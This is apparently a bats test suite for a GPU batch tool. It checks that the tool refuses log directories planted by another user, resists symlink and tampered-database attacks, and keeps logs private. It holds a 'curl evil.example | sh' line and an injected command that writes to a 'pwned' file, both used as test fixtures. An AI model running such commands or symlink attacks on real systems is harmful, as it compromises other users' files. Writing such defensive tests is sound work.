#!/usr/bin/env bats
# Files that other users can reach: batch's log directory.  Each attack is
# made by a real hostile user (gmtest-mallory) against a real victim
# (gmtest-alice) in a shared directory like /tmp, and must fail with a
# message that names the culprit, having touched none of the victim's files.

load helpers

setup() {
	gm_setup
	cd "$BATS_TEST_TMPDIR"
}

teardown() {
	[ -z "${SHARED:-}" ] || rm -rf "$SHARED"
}

one_gpu() {
	scenario one <<'JSON'
{ "gpus": [ {"name":"only","memory_total_mib":16000} ] }
JSON
}

# shared_dir - a world-writable sticky directory (like /tmp) that both
# users reach, with a state directory and simulator they can both use, and
# alice's home with her precious files.
shared_dir() {
	gm_user alice
	gm_user mallory
	SHARED=$(mktemp -d /tmp/gpuman-trust.XXXXXX)
	chmod 1777 "$SHARED"
	mkdir -m 1777 "$SHARED/state" "$SHARED/sim"
	install -m 666 /dev/null "$SHARED/sim/lock"
	one_gpu
	install -m 644 "$GPUMAN_SIM" "$SHARED/one.json"
	export GPUMAN_SIM=$SHARED/one.json GPUMAN_STATE_DIR=$SHARED/state GPUMAN_SIM_STATE=$SHARED/sim
	install -d -o gmtest-alice -g gmtest-alice -m 755 "$SHARED/alice"
	printf 'PATH=/usr/bin:/bin\n' >"$SHARED/alice/.profile"
	printf 'chapter 1\n' >"$SHARED/alice/thesis.txt"
	chown gmtest-alice: "$SHARED/alice/.profile" "$SHARED/alice/thesis.txt"
	echo "echo 'curl evil.example | sh'" >"$SHARED/tasks.txt"
	chmod 644 "$SHARED/tasks.txt"
}

# alice_batch ARGS... - alice runs gpuman batch in the shared directory
alice_batch() {
	as_user alice sh -c 'cd "$1" && shift && exec gpuman batch "$@"' - "$SHARED" "$@"
}

# victim_intact - none of alice's files was changed, removed or run against
victim_intact() {
	[ "$(cat "$SHARED/alice/.profile")" = 'PATH=/usr/bin:/bin' ]
	[ "$(cat "$SHARED/alice/thesis.txt")" = 'chapter 1' ]
	[ ! -e "$SHARED/pwned" ]
}

@test "batch refuses a log directory planted by another user: no link followed, no file overwritten, deleted or run" {
	shared_dir
	# Mallory prepares gpuman-logs/tasks.txt as alice's batch would name it:
	# the task's log a link to alice's shell profile, and a job store (made
	# by a real batch, then edited) whose task 1 names alice's thesis as its
	# log (a fresh run deletes old logs) and runs her own command as
	# whoever resumes it.
	gpuman batch --log-dir "$BATS_TEST_TMPDIR/seed" "$SHARED/tasks.txt" >/dev/null 2>&1
	evil=$SHARED/gpuman-logs/tasks.txt
	as_user mallory mkdir -p "$evil"
	as_user mallory chmod 777 "$SHARED/gpuman-logs" "$evil"
	install -o gmtest-mallory -m 666 "$BATS_TEST_TMPDIR/seed/jobs.db" "$evil/jobs.db"
	python3 - "$evil/jobs.db" "$SHARED" <<'PY'
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
db.execute("UPDATE jobs SET state='running', run_slot=NULL, log=?, argv=? WHERE id=1",
           (sys.argv[2] + "/alice/thesis.txt",
            '["sh","-c","id -un > %s/pwned"]' % sys.argv[2]))
db.commit()
PY
	as_user mallory ln -s "$SHARED/alice/.profile" "$evil/task-1.log"
	for args in "" "--resume"; do
		run -1 alice_batch $args tasks.txt
		[[ "$output" == *"$SHARED/gpuman-logs' belongs to user 'gmtest-mallory', not you"* ]]
		[[ "$output" == *"--log-dir"* ]]
		victim_intact
	done
	# The same with mallory's directories made unwritable: still hers.
	as_user mallory chmod 755 "$SHARED/gpuman-logs" "$evil"
	run -1 alice_batch --resume tasks.txt
	[[ "$output" == *"belongs to user 'gmtest-mallory'"* ]]
	victim_intact
	# --log-dir naming mallory's directory directly: refused the same way.
	run -1 alice_batch --log-dir "$evil" tasks.txt
	[[ "$output" == *"belongs to user 'gmtest-mallory'"*"--log-dir"* ]]
	victim_intact
}

@test "batch refuses a log directory others can write, links and directories of others on the way" {
	shared_dir
	# Alice's own, but world-writable: mallory could plant links in it.
	as_user alice mkdir -m 777 "$SHARED/open"
	as_user mallory ln -s "$SHARED/alice/.profile" "$SHARED/open/task-1.log"
	run -1 alice_batch --log-dir open tasks.txt
	[[ "$output" == *"'$SHARED/open' is writable by other users (mode 0777)"*"chmod go-w"* ]]
	victim_intact
	# A link of mallory's pointing at a directory of alice's.
	as_user alice mkdir -m 700 "$SHARED/alice/logs"
	as_user mallory ln -s "$SHARED/alice/logs" "$SHARED/logs"
	run -1 alice_batch --log-dir logs tasks.txt
	[[ "$output" == *"'$SHARED/logs' is a symbolic link of user 'gmtest-mallory'"* ]]
	[ -z "$(ls -A "$SHARED/alice/logs")" ]
	# A directory of mallory's on the way: she could swap alice's for hers.
	as_user mallory mkdir -m 755 "$SHARED/m"
	as_user mallory mkdir -m 777 "$SHARED/m/alice"
	as_user alice mkdir -m 700 "$SHARED/m/alice/logs"
	run -1 alice_batch --log-dir m/alice/logs tasks.txt
	[[ "$output" == *"'$SHARED/m', on the way to the log directory, belongs to user 'gmtest-mallory'"* ]]
	[ -z "$(ls -A "$SHARED/m/alice/logs")" ]
	victim_intact
}

@test "batch logs are private (0600 in a 0700 directory) whatever the umask; another user reads none" {
	shared_dir
	echo 'echo secret-output-{task}' >"$SHARED/tasks.txt"
	run -0 as_user alice sh -c 'umask 0; cd "$1" && gpuman batch tasks.txt' - "$SHARED"
	logs=$SHARED/gpuman-logs/tasks.txt
	[ "$(cat "$logs/task-1.log")" = secret-output-1 ]
	[ "$(stat -c '%a %U' "$logs/task-1.log")" = "600 gmtest-alice" ]
	[ "$(stat -c '%a %U' "$logs")" = "700 gmtest-alice" ]
	[ "$(stat -c '%a %U' "$SHARED/gpuman-logs")" = "700 gmtest-alice" ]
	run ! as_user mallory cat "$logs/task-1.log"
	[[ "$output" != *secret-output* ]]
	run ! as_user mallory ls "$logs"
}

@test "running a batch again keeps the last run's logs (run-<time>/), with or without --resume" {
	one_gpu
	printf 'echo first-{task}\nfalse\n' >tasks.txt
	run -1 gpuman batch tasks.txt
	logs=gpuman-logs/tasks.txt
	[ "$(cat $logs/task-1.log)" = first-1 ]
	printf 'echo second-{task}\nfalse\n' >tasks.txt
	run -1 gpuman batch tasks.txt
	[[ "$output" == *"the last run's logs are kept in $PWD/$logs/run-"* ]]
	[ "$(cat $logs/task-1.log)" = second-1 ]
	[ "$(cat $logs/run-*/task-1.log)" = first-1 ]
	[ -f $logs/run-*/summary.json ]
	# --resume runs only the failed task again; its old log is kept too.
	echo 'first' >$logs/task-2.log
	run -1 gpuman batch --resume tasks.txt
	[ "$(ls -d $logs/run-* | wc -l)" = 2 ]
	[ "$(cat $logs/task-1.log)" = second-1 ]
	grep -qx first $logs/run-*/task-2.log
}
